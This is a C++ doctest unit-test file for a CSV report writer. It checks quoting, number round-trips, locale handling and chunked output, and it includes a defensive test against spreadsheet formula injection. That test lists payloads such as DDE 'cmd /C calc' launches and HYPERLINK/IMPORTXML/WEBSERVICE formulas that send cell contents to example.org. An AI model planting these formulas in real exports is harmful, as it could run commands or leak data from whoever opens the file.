#include "report/csv.h"

#include <doctest/doctest.h>

#include <bit>
#include <charconv>
#include <clocale>
#include <cmath>
#include <limits>
#include <random>

using namespace fabcast;

namespace {

/// A strict reader of RFC 4180 with '\n' line ends, by the standard's grammar and not by our
/// writer.
std::vector<std::vector<std::string>> parse(std::string_view text) {
  std::vector<std::vector<std::string>> rows;
  std::vector<std::string> row;
  size_t i = 0;
  while (i < text.size()) {
    std::string field;
    if (text[i] == '"') {
      for (++i;; ++i) {
        REQUIRE(i < text.size());
        if (text[i] != '"') {
          field += text[i];
        } else if (i + 1 < text.size() && text[i + 1] == '"') {
          field += text[++i];
        } else {
          break;
        }
      }
      ++i;
    } else {
      while (i < text.size() && text[i] != ',' && text[i] != '\n') {
        REQUIRE(text[i] != '"');
        REQUIRE(text[i] != '\r');
        field += text[i++];
      }
    }
    row.push_back(field);
    REQUIRE(i < text.size());
    REQUIRE((text[i] == ',' || text[i] == '\n'));
    if (text[i] == '\n') {
      rows.push_back(row);
      row.clear();
    } else if (i + 1 == text.size()) {
      FAIL("a comma ends the text");
    }
    ++i;
  }
  REQUIRE(row.empty());
  return rows;
}

}  // namespace

TEST_CASE("a table as CSV, byte for byte") {
  Table table{"t", {{"name", ""}, {"value, in %", ""}, {"count", ""}, {"note", ""}}, {}};
  table.rows.push_back({std::string("SN2"), 0.1, -3LL, std::string("plain")});
  table.rows.push_back({std::string("a,b"), -2.5, 0LL, std::string("say \"no\"")});
  table.rows.push_back({std::string("-x"), std::nan(""), {}, std::string("two\nlines")});
  table.rows.push_back({{}, 1e300, 9007199254740993LL, std::string("昇腾 “910C”")});
  CHECK(csv_text(table) ==
        "name,\"value, in %\",count,note\n"
        "SN2,0.1,-3,plain\n"
        "\"a,b\",-2.5,0,\"say \"\"no\"\"\"\n"
        "'-x,,,\"two\nlines\"\n"
        ",1e+300,9007199254740993,昇腾 “910C”\n");
  CHECK(csv_text(Table{"t", {{"only", ""}}, {}}) == "only\n");
}

TEST_CASE("numbers read back to the same bits, infinities and NaN are empty") {
  std::mt19937_64 random(1);
  for (int i = 0; i < 20000; ++i) {
    const double value = std::bit_cast<double>(random());
    const std::string text = csv_number(value);
    if (!std::isfinite(value)) {
      CHECK(text.empty());
      continue;
    }
    double read = 0;
    const auto [end, error] = std::from_chars(text.data(), text.data() + text.size(), read);
    REQUIRE(error == std::errc());
    REQUIRE(end == text.data() + text.size());
    REQUIRE(std::bit_cast<uint64_t>(read) == std::bit_cast<uint64_t>(value));
  }
  for (const double bad : {std::nan(""), std::numeric_limits<double>::infinity(),
                           -std::numeric_limits<double>::infinity()}) {
    CHECK(csv_number(bad).empty());
  }
  CHECK(csv_number(0.1) == "0.1");
  CHECK(csv_number(812000) == "812000");
  CHECK(csv_number(-1.5) == "-1.5");
}

TEST_CASE("numbers keep their point in a comma-decimal locale") {
  const std::string before = std::setlocale(LC_ALL, nullptr);
  if (!std::setlocale(LC_ALL, "de_DE.UTF-8") && !std::setlocale(LC_ALL, "fr_FR.UTF-8")) {
    MESSAGE("skipped: this machine has no comma-decimal locale");
    return;
  }
  CHECK(csv_number(1.5) == "1.5");
  std::setlocale(LC_ALL, before.c_str());
}

TEST_CASE("no text becomes a formula") {
  const std::vector<std::string> injections{
      "=1+1",
      "=cmd|' /C calc'!A0",
      "=HYPERLINK(\"http://example.org?x=\"&A1,\"click\")",
      "=IMPORTXML(CONCAT(\"http://example.org/\",A1),\"//a\")",
      "=WEBSERVICE(\"http://example.org\")",
      "=DDE(\"cmd\";\"/C calc\";\"x\")",
      "=SUM(A1:A9)",
      "=@SUM(1)",
      "==1",
      "=\"\"",
      "+1+1",
      "+cmd|' /C calc'!A0",
      "++1",
      "+A1",
      "-1+1",
      "-2+3+cmd|' /C calc'!A0",
      "--1",
      "-A1",
      "@SUM(1+1)",
      "@A1",
      "\t=1+1",
      "\r=1+1",
      "\n=1+1",
      " =1+1",
      "   +1+1",
      "\uFF1D1+1",
      "\uFF0B1+1",
      "\uFF0D1+1",
      "\uFF20SUM(1)",
      "=1+1;=2+2",
      "=1\n=2",
      "=\"a,b\"",
  };
  CHECK(injections.size() >= 30);
  for (const std::string& injection : injections) {
    CAPTURE(injection);
    CHECK(parse(csv_field(injection) + "\n")[0][0] == "'" + injection);
    Table table{injection, {{injection, injection}}, {{injection}}};
    const auto rows = parse(csv_text(table));
    CHECK(rows[0][0] == "'" + injection);  // as a column's name too
    CHECK(rows[1][0] == "'" + injection);
    CHECK(parse(csv_text(KeptTrials{{injection}, {1}}))[0][1] == "'" + injection);
  }
}

TEST_CASE("text that a spreadsheet could split is quoted, other text is left as it is") {
  for (const std::string text : {"a;=1+1", "a\t=1+1", "a,=1+1", "a\n=1+1", "a\r=1+1", "a\"b"}) {
    const std::string field = csv_field(text);
    CHECK(field.front() == '"');
    CHECK(field.back() == '"');
    CHECK(parse(field + "\n") == std::vector<std::vector<std::string>>{{text}});
  }
  for (const std::string text : {"", "npus.shipped", "N+2", "a=b", "3 to 8", "'", " x", "90 %"}) {
    CHECK(csv_field(text) == text);
  }
}

TEST_CASE("any text survives the way to a file and back, but for the apostrophe") {
  std::mt19937_64 random(2);
  const std::string letters = "ab,;\"\n\r\t '=+-@1.";
  for (int i = 0; i < 5000; ++i) {
    Table table{"t", {{"x", ""}, {"y", ""}}, {}};
    std::string text[2];
    for (std::string& t : text) {
      for (size_t n = random() % 8; n > 0; --n) t += letters[random() % letters.size()];
    }
    table.rows.push_back({text[0], text[1]});
    const auto rows = parse(csv_text(table));
    REQUIRE(rows.size() == 2);
    REQUIRE(rows[1].size() == 2);
    for (size_t k = 0; k < 2; ++k) {
      REQUIRE((rows[1][k] == text[k] || rows[1][k] == "'" + text[k]));
    }
  }
}

TEST_CASE("kept trials: one row a trial, numbered from 0") {
  const KeptTrials kept{{"npus.shipped ascend 2026Q3", "a,b"}, {1, 2.5, -3, std::nan("")}};
  CHECK(csv_text(kept) == "trial,npus.shipped ascend 2026Q3,\"a,b\"\n0,1,2.5\n1,-3,\n");
}

TEST_CASE("many kept trials are handed on in pieces of whole rows") {
  const KeptTrials kept{{"x"}, std::vector<double>(300'000, 0.125)};
  std::string all;
  int pieces = 0;
  csv_text(kept, [&](std::string_view piece) {
    CHECK((piece.empty() || piece.back() == '\n'));
    CHECK(piece.size() < 2'000'000);
    all += piece;
    ++pieces;
  });
  CHECK(pieces > 2);
  CHECK((all == csv_text(kept)));
  CHECK(std::count(all.begin(), all.end(), '\n') == 300'001);
  CHECK(all.ends_with("\n299999,0.125\n"));
}
